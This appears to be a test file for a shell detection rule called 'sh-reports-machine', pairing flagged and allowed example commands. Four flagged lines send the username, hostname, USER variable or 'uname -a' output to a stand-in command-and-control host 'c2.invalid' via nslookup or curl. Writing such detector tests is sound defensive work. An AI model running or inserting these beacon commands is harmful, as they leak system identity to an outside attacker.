# ruleid: sh-reports-machine
nslookup $(whoami).c2.invalid
# ruleid: sh-reports-machine
curl -s "https://c2.invalid/?h=$(hostname)&u=$USER"
# ruleid: sh-reports-machine
curl -d "$(uname -a)" https://c2.invalid
# ruleid: sh-reports-machine
curl https://c2.invalid/$HOSTNAME
# ok: sh-reports-machine
curl -fsSLO https://get.invalid/a-$(uname -m).tgz
# ok: sh-reports-machine
whoami
# ok: sh-reports-machine
ping -c1 $HOST
# ok: sh-reports-machine
curl -s https://get.invalid/$(uname -s)-$(uname -m)
